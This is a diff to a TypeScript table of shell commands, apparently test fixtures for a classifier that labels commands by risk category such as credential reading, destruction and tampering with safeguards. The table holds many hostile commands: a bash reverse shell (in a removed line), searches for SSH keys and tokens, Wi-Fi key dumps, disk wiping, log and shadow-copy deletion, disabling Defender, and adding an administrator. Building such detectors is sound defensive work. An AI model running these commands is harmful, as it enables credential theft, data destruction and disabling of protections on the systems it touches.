@@ -15,7 +15,6 @@ export const WINDOWS_AND_ATTACKS: FieldTable = {
     "ipconfig /flushdns",
     "manage-bde -status",
     "nbtstat -n",
-    "net localgroup administrators",
     "netsh wlan show profiles",
     "netstat -ano",
     "pnputil /enum-drivers",
@@ -49,7 +48,6 @@ export const WINDOWS_AND_ATTACKS: FieldTable = {
   "?credential-change ?persistence": ["ksetup /setrealm X"],
   "?credential-read": [
     "ConvertFrom-SecureString x",
-    "screencapture -x /tmp/s.png",
     "pbpaste",
     "find / -name id_rsa",
     "env | grep -i token",
@@ -95,6 +93,7 @@ export const WINDOWS_AND_ATTACKS: FieldTable = {
     "passwd -l root",
     "usermod -s /sbin/nologin bob",
   ],
+  "credential-change privilege": ["net localgroup administrators bob /add"],
   "credential-read": [
     "manage-bde -protectors -get C:",
     "netsh wlan show profile name=x key=clear",
@@ -125,8 +124,7 @@ export const WINDOWS_AND_ATTACKS: FieldTable = {
     "dd if=/dev/urandom of=/dev/sda",
     "shred -u f",
   ],
-  "destructive ?guard-tamper": ["fsutil usn deletejournal /d c:", "wbadmin delete catalog -quiet"],
-  "destructive ?lockout ?guard-tamper": ["wmic shadowcopy delete"],
+  "destructive ?guard-tamper": ["fsutil usn deletejournal /d c:"],
   "guard-tamper": [
     "auditpol /set /category:* /success:disable",
     "net stop windefend",
@@ -140,13 +138,7 @@ export const WINDOWS_AND_ATTACKS: FieldTable = {
     "kill -9 $(pgrep -f littlesnitch)",
     'sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db "insert into access values(1)"',
   ],
-  "guard-tamper ?destructive": [
-    "bcdedit /set testsigning on",
-    "bcdedit /set {default} recoveryenabled no",
-    "log erase --all",
-    "rm -f /var/log/auth.log",
-    "echo > /var/log/wtmp",
-  ],
+  "guard-tamper ?destructive": ["bcdedit /set testsigning on", "rm -f /var/log/auth.log", "echo > /var/log/wtmp"],
   "guard-tamper ?network": [
     "netsh interface portproxy add v4tov4 listenport=80 connectaddress=10.0.0.1 connectport=80",
   ],
@@ -192,7 +184,6 @@ export const WINDOWS_AND_ATTACKS: FieldTable = {
     "Get-AzVM",
     "Get-ADUser bob",
     "Resolve-DnsName x.com",
-    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
   ],
   "network ?credential-change ?guard-tamper": ["winrm quickconfig"],
   "network ?credential-read": ["curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
